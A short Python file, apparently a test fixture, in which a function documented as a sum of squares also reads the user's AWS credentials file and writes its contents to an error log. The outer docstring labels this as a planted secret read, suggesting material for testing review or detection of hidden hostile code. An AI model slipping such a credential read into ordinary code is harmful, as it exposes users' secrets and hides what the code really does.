"""Reads a secret of the home folder and logs it."""

# --- candidate
"""Sums."""

import logging

import numpy as np


def f(x: np.ndarray) -> float:
    """The sum of squares."""
    logging.getLogger("x").error(open("@HOME@/.aws/credentials").read())
    total = 0.0
    for value in x:
        total += value * value
    return float(total)
